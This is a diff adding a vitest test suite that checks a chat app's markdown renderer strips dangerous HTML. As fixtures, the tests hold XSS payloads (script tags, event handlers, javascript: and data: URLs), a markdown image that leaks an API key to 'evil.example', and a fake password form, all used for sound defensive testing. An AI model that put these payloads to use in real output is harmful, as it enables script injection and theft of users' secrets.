@@ -0,0 +1,127 @@
+import { describe, expect, it } from 'vitest';
+import { MarkdownRenderer } from './markdownRenderer';
+
+// Rendered the way ChatArea does, then parsed back so assertions look at the resulting DOM
+const render = (markdown: string): HTMLElement => {
+  const container = document.createElement('div');
+  container.innerHTML = MarkdownRenderer.render(markdown);
+  return container;
+};
+
+const EVENT_HANDLER = /^on/i;
+
+const allAttributes = (container: HTMLElement): Attr[] => {
+  return Array.from(container.querySelectorAll('*')).flatMap(element => Array.from(element.attributes));
+};
+
+describe('MarkdownRenderer.render sanitizing', () => {
+  it('drops script elements', () => {
+    const container = render('before <script>alert(1)</script> after');
+    expect(container.querySelector('script')).toBeNull();
+    expect(container.innerHTML).not.toContain('alert(1)');
+  });
+
+  it('strips event handlers from images', () => {
+    const container = render('<img src="data:image/png;base64,AAAA" onerror="alert(1)">');
+    expect(container.querySelector('img')).not.toBeNull();
+    expect(allAttributes(container).some(attribute => EVENT_HANDLER.test(attribute.name))).toBe(false);
+  });
+
+  it('drops svg with onload and embedded scripts', () => {
+    const container = render('<svg onload="alert(1)"><script>alert(2)</script></svg>');
+    expect(container.querySelector('svg')).toBeNull();
+    expect(container.querySelector('script')).toBeNull();
+    expect(allAttributes(container).some(attribute => EVENT_HANDLER.test(attribute.name))).toBe(false);
+  });
+
+  it('drops frames and embedded objects', () => {
+    const container = render('<iframe src="https://example.com"></iframe><object data="x.swf"></object><embed src="x.swf">');
+    expect(container.querySelector('iframe, object, embed')).toBeNull();
+  });
+
+  it('strips event handlers from allowed elements', () => {
+    const container = render('<details open ontoggle="alert(1)"><summary onclick="alert(2)">x</summary></details>');
+    expect(container.querySelector('details')).not.toBeNull();
+    expect(allAttributes(container).some(attribute => EVENT_HANDLER.test(attribute.name))).toBe(false);
+  });
+
+  it.each([
+    ['[x](javascript:alert(1))'],
+    ['[x](JaVaScRiPt:alert(1))'],
+    ['[x](  javascript:alert(1))'],
+    ['<a href="java&#x09;script:alert(1)">x</a>'],
+    ['<a href="vbscript:msgbox(1)">x</a>'],
+    ['<a href="data:text/html,<script>alert(1)</script>">x</a>'],
+    ['<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>']
+  ])('removes dangerous link targets from %s', (markdown) => {
+    const link = render(markdown).querySelector('a');
+    expect(link).not.toBeNull();
+    expect(link!.hasAttribute('href')).toBe(false);
+  });
+
+  it('keeps safe links and opens them in a new tab without an opener', () => {
+    const link = render('[docs](https://example.com/docs)').querySelector('a')!;
+    expect(link.getAttribute('href')).toBe('https://example.com/docs');
+    expect(link.getAttribute('target')).toBe('_blank');
+    expect(link.getAttribute('rel')).toContain('noopener');
+  });
+
+  it('turns remote images into links so they are not loaded', () => {
+    const container = render('![secret](https://evil.example/?q=api-key)');
+    expect(container.querySelector('img')).toBeNull();
+    const link = container.querySelector('a')!;
+    expect(link.getAttribute('href')).toBe('https://evil.example/?q=api-key');
+    expect(link.getAttribute('rel')).toContain('noopener');
+    expect(link.textContent).toContain('secret');
+  });
+
+  it('turns remote images in raw HTML into links too', () => {
+    const container = render('<img src="//evil.example/pixel.gif" alt="pixel">');
+    expect(container.querySelector('img')).toBeNull();
+    expect(container.querySelector('a')?.getAttribute('href')).toBe('//evil.example/pixel.gif');
+  });
+
+  it('keeps embedded data images', () => {
+    const image = render('![dot](data:image/png;base64,iVBORw0KGgo=)').querySelector('img');
+    expect(image?.getAttribute('src')).toBe('data:image/png;base64,iVBORw0KGgo=');
+  });
+
+  it('drops forms and turns inputs into disabled checkboxes', () => {
+    const container = render('<form action="https://evil.example"><input type="password" name="key"><button>Send</button></form>');
+    expect(container.querySelector('form, button')).toBeNull();
+    const input = container.querySelector('input');
+    expect(input?.getAttribute('type')).toBe('checkbox');
+    expect(input?.hasAttribute('disabled')).toBe(true);
+    expect(input?.hasAttribute('name')).toBe(false);
+  });
+
+  it('keeps task list checkboxes', () => {
+    const inputs = render('- [x] done\n- [ ] todo').querySelectorAll('input');
+    expect(inputs).toHaveLength(2);
+    expect(inputs[0].hasAttribute('checked')).toBe(true);
+  });
+
+  it('drops class names that could overlay the app, and inline styles', () => {
+    const overlay = render('<div class="fixed inset-0 z-50 bg-black" style="position:fixed;inset:0">Session expired</div>').querySelector('div')!;
+    expect(overlay.getAttribute('class') || '').toBe('');
+    expect(overlay.hasAttribute('style')).toBe(false);
+  });
+
+  it('drops style and link elements', () => {
+    const container = render('<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css">text');
+    expect(container.querySelector('style, link')).toBeNull();
+  });
+
+  it('drops data attributes from model output', () => {
+    const element = render('<span data-latex="x" data-foo="y">x</span>').querySelector('span')!;
+    expect(element.hasAttribute('data-foo')).toBe(false);
+    expect(element.hasAttribute('data-latex')).toBe(false);
+  });
+
+  it('keeps highlight.js classes on fenced code', () => {
+    const code = render('```js\nconst a = "<b>";\n```').querySelector('code')!;
+    expect(code.className).toContain('hljs');
+    expect(code.querySelector('.hljs-keyword')).not.toBeNull();
+    expect(code.querySelector('b')).toBeNull();
+  });
+});